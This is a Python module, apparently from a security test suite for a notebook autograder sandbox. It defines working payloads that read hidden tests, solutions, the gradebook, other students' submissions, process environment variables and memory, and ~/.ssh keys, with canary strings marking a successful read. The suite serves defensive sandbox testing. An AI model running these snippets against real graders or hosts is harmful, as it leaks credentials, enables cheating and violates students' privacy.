"""Attacks that want to read what is hidden."""

from .attack import NBGRADER, NONE, WRONG, Attack, sees

BOTH = (NONE, NBGRADER)

_READ_ALL = """
import pathlib
for path in pathlib.Path("@COURSE@").glob("FILES"):
    try:
        print(path, path.read_bytes().decode("latin-1"))
    except OSError as error:
        print(error)
"""


def read_files(pattern: str) -> str:
    return _READ_ALL.replace("FILES", pattern) + WRONG


# the grader's Python imports from the course's folder and from folders beside which there are secrets
_BESIDE = """
import outside_package, user_package, pathlib, sys
for folder in {*sys.path, "@COURSE@", "@HOST@"}:
    for path in pathlib.Path(folder or ".").glob("PATTERN"):
        try:
            print(path, path.read_bytes().decode("latin-1"))
        except OSError as error:
            print(error)
"""


def read_beside(pattern: str) -> str:
    return _BESIDE.replace("PATTERN", pattern) + WRONG


# Every process that can be seen; what looks like a canary in its memory is printed.
_MEMORY = """
import os, re
def search(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            place, rights = line.split()[:2]
            start, end = (int(part, 16) for part in place.split("-"))
            if rights.startswith("rw") and end - start < 1 << 28:
                try:
                    memory.seek(start)
                    for word in set(re.findall(rb"canary-checks-[0-9a-f]{12}", memory.read(end - start))):
                        print(word.decode())
                except (OSError, ValueError):
                    pass
for pid in [os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())][:PROCESSES]:
    try:
        if pid not in (0, os.getpid()):
            search(pid)
    except OSError as error:
        print(error)
"""

_ENVIRONMENTS = """
import os
for pid in [os.getppid(), *(name for name in os.listdir("/proc") if name.isdigit())]:
    try:
        print(open(f"/proc/{pid}/environ", "rb").read().decode("latin-1"))
    except OSError as error:
        print(error)
"""

_SEES_CELLS = """
def look(lines):
    print("".join(lines))
    return lines
get_ipython().input_transformers_cleanup.append(look)
"""

_FRAMES = """
import sys
def everything(frame):
    while frame is not None:
        yield from (frame.f_code.co_consts, frame.f_locals, frame.f_globals)
        frame = frame.f_back
def double(x):
    for thing in everything(sys._getframe()):
        text = str(thing)
        if "canary-" in text:
            print(text[:50_000])
    return 3 * x
"""

_OBJECTS = """
import gc, re
def double(x):
    for thing in gc.get_objects():
        if type(thing) in (list, dict, tuple):
            try:
                for word in re.findall("canary-[a-z]+-[0-9a-f]{12}", str(thing)[:100_000]):
                    print(word)
            except Exception:
                pass
    return 3 * x
"""

_HISTORY = """
import linecache
def double(x):
    print([lines for name, (_, _, lines, _) in linecache.cache.items() if "ipykernel" in name])
    print(get_ipython().user_ns.get("In"))
    return 3 * x
"""

ATTACKS = [
    Attack(
        "reads-the-hidden-checks",
        "Print every file of the folder with the hidden checks.",
        sees("checks"),
        read_files("tests/*/*.py"),
        proofs=(NONE,),
        unfit=(NBGRADER,),
        kernel=True,
    ),
    Attack(
        "reads-the-reference-tensors",
        "Print the recorded tensors that answers are compared with.",
        sees("reference"),
        read_files("tests/*/*.safetensors"),
        proofs=(NONE,),
        unfit=(NBGRADER,),
    ),
    Attack(
        "reads-the-instructors-solution",
        "Print the notebooks in source/, where the solutions are.",
        sees("solution"),
        read_files("source/*/*.ipynb"),
        proofs=BOTH,
    ),
    Attack(
        "reads-the-gradebook",
        "Print the gradebook's file.",
        sees("gradebook"),
        read_files("gradebook.db"),
        proofs=BOTH,
        kernel=True,
    ),
    Attack(
        "reads-another-submission",
        "Print what another student handed in.",
        sees("submission"),
        read_files("submitted/bob/*/*.ipynb"),
        proofs=BOTH,
    ),
    Attack(
        "reads-the-graders-environment",
        "Print the environment variables of the grader, where its keys are.",
        sees("environment"),
        _ENVIRONMENTS + WRONG,
        proofs=BOTH,
        kernel=True,
    ),
    Attack(
        "reads-the-graders-memory",
        "Search the memory of the grader's process for the checks.",
        sees("checks"),
        # without a sandbox only the parent is searched: other processes of this machine are none of our business
        "import os\nALL = not os.path.exists('@COURSE@')\n"
        + _MEMORY.replace("PROCESSES", "None if ALL else 1")
        + WRONG,
        proofs=(NONE,),
        kernel=True,
    ),
    Attack(
        "sees-test-cells-by-an-input-transformer",
        "Print the text of each cell that runs after it, hidden tests included.",
        sees("checks"),
        _SEES_CELLS + WRONG,
        proofs=(NBGRADER,),
    ),
    Attack(
        "looks-into-the-callers-frames",
        "Walk up the frames of a call to what the check expects.",
        sees("checks", "reference"),
        _FRAMES,
        proofs=(NBGRADER,),
    ),
    Attack(
        "searches-all-objects",
        "Search every object of the garbage collector for checks and expected values.",
        sees("checks", "reference", "solution"),
        _OBJECTS,
        proofs=(NBGRADER,),
    ),
    Attack(
        "reads-the-history-of-cells",
        "Print the kernel's own record of the cells that ran, while it is being tested.",
        sees("checks"),
        _HISTORY,
        proofs=(NBGRADER,),
    ),
    Attack(
        "reads-the-course-if-it-is-on-sys-path",
        "Print the hidden checks, by way of the folders that Python imports from.",
        sees("checks"),
        read_beside("tests/*/*.py"),
        proofs=(NONE,),
        unfit=(NBGRADER,),
        kernel=True,
    ),
    Attack(
        "reads-a-file-beside-a-package",
        "Print a file beside a folder that Python imports from.",
        sees("host"),
        read_beside("secret.txt"),
        proofs=BOTH,
        kernel=True,
    ),
    Attack(
        "reads-the-graders-keys-beside-user-packages",
        "Print ~/.ssh and ~/.local/share, where packages are in ~/.local/lib.",
        sees("host"),
        read_beside("home/.*/*/secret.txt") + read_beside("home/.ssh/*"),
        proofs=BOTH,
        kernel=True,
    ),
]
